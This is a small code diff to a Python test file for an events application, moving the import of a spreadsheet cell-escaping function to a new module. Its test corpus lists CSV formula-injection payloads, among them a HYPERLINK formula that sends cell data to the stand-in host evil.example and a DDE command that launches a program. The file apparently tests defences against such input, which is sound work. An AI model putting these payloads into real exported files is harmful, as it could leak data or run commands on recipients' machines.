@@ -6,11 +6,11 @@ import io
 import pytest
 from sqlalchemy import select
 
-from eventsapp.admin.export import escape_cell
 from eventsapp.extensions import db
 from eventsapp.models import AuditEntry, Event, Registration
 from eventsapp.registration.services import register
 from eventsapp.registration.validation import clean_registration
+from eventsapp.spreadsheet import escape_cell
 
 CSV_CORPUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+1+1",
               "-1+2", "@SUM(1,1)", "\t=1+1", " =1+1", "-5"]
